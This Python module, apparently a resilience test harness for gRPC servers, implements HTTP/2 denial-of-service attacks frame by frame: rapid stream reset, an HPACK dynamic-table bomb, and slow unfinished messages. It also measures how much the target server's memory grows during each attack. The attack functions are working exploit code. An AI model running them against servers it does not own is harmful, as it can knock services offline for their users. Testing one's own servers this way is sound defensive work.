"""What a hostile client sends to a gRPC port, frame by frame (RFC 9113, RFC 7541), and what its server makes of it."""

from __future__ import annotations

import asyncio
import os
from collections import defaultdict
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, TypeAlias

import hpack

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable

    import psutil

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
END_HEADERS, ACK = 4, 1
CANCEL = (8).to_bytes(4, "big")
FRAME = 16_384
"""The longest payload of a frame."""

MANY = 1_000
"""The streams of a connection to a server that takes more."""

SECONDS = float(os.environ.get("ATTACK_SECONDS", "1"))
"""How long an attack lasts."""

MEMORY = 100_000_000
"""The bytes that a server may take during an attack, more than at rest."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request_fields(method: str) -> list[tuple[str, str]]:
    """The header fields of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "x", "te": "trailers"}
    return [*fields.items(), ("content-type", "application/grpc")]


class Connection:
    """An HTTP/2 connection that respects the server's windows and reads nothing else of what it sends."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self._initial = 65_535
        self._windows: defaultdict[int, int] = defaultdict(lambda: self._initial)
        self._grown = asyncio.Event()
        self._streams: asyncio.Future[int] = asyncio.get_running_loop().create_future()

    async def streams(self) -> list[int]:
        """The ids of as many streams as the server takes at a time, but at most MANY."""
        return [1 + 2 * number for number in range(min(await asyncio.shield(self._streams), MANY))]

    async def send(self, frames: bytes) -> None:
        """Sends frames that no window limits."""
        self._writer.write(frames)
        await self._writer.drain()
        await asyncio.sleep(0)  # drain itself lets nobody else run

    async def send_data(self, stream: int, data: bytes) -> None:
        """Sends data as the windows allow."""
        while data:
            size = min(FRAME, len(data), self._windows[0], self._windows[stream])
            if size > 0:
                await self.send(frame(DATA, 0, stream, data[:size]))
                self._windows[0] -= size
                self._windows[stream] -= size
                data = data[size:]
            else:
                self._grown.clear()
                await self._grown.wait()

    async def read(self) -> None:
        """Reads frames until the server closes the connection."""
        with suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                self._accept(head[3], head[4], int.from_bytes(head[5:], "big"), payload)

    def _accept(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload, "big")
            self._grown.set()
        elif kind == SETTINGS and not flags & ACK:
            pairs = (payload[start : start + 6] for start in range(0, len(payload), 6))
            settings = {int.from_bytes(pair[:2], "big"): int.from_bytes(pair[2:], "big") for pair in pairs}
            self._initial = settings.get(INITIAL_WINDOW_SIZE, self._initial)
            if not self._streams.done():
                self._streams.set_result(settings.get(MAX_CONCURRENT_STREAMS, MANY))
            self._writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))


@asynccontextmanager
async def connect(address: str) -> AsyncIterator[Connection]:
    """A connection to a gRPC port."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    connection = Connection(reader, writer)
    reading = asyncio.create_task(connection.read())
    try:
        yield connection
    finally:
        writer.transport.abort()
        reading.cancel()
        await asyncio.wait([reading])


Attack: TypeAlias = "Callable[[Connection, str], Awaitable[None]]"
"""Sends what it has to a method on one connection."""


async def reset_rapidly(connection: Connection, method: str) -> None:
    """Starts calls and cancels each at once, without end."""
    encoder, stream = hpack.Encoder(), 1
    while True:
        frames = b""
        for _ in range(100):
            fields = encoder.encode(request_fields(method))
            frames += frame(HEADERS, END_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, CANCEL)
            stream += 2
        await connection.send(frames)


async def bomb(connection: Connection, method: str) -> None:
    """Sends calls, each with 16 000 references to one field of 4 000 bytes in HPACK's dynamic table."""
    encoder, stream, large = hpack.Encoder(), 1, [("x-large", "a" * 4_000)]
    await connection.send(frame(HEADERS, END_HEADERS, stream, encoder.encode(request_fields(method) + large)))
    reference = encoder.encode(large)
    references = frame(HEADERS, END_HEADERS, 0, reference * (FRAME // len(reference)))
    while True:
        stream += 2
        await connection.send(references[:5] + stream.to_bytes(4, "big") + references[9:])


def unfinished(size: int) -> Attack:
    """Sends as many messages of a size as the server takes at a time, each without its last byte."""

    async def send(connection: Connection, method: str) -> None:
        encoder, message = hpack.Encoder(), b"\0" + size.to_bytes(4, "big") + b"\0" * (size - 1)
        streams = await connection.streams()
        for stream in streams:
            await connection.send(frame(HEADERS, END_HEADERS, stream, encoder.encode(request_fields(method))))
        await asyncio.gather(*(connection.send_data(stream, message) for stream in streams))
        await asyncio.Event().wait()

    return send


async def attack(address: str, method: str, send: Attack, seconds: float = SECONDS) -> None:
    """Attacks for some seconds; connects again whenever the server closes the connection."""
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while True:
                with suppress(ConnectionError):
                    async with connect(address) as connection:
                        await send(connection, method)


async def peak_growth(process: psutil.Process, work: Awaitable[object]) -> int:
    """The bytes by which a process's memory grows at most during some work."""
    rest = peak = process.memory_info().rss
    task = asyncio.ensure_future(work)
    while not task.done():
        peak = max(peak, process.memory_info().rss)
        await asyncio.wait({task}, timeout=0.01)
    await task
    return peak - rest
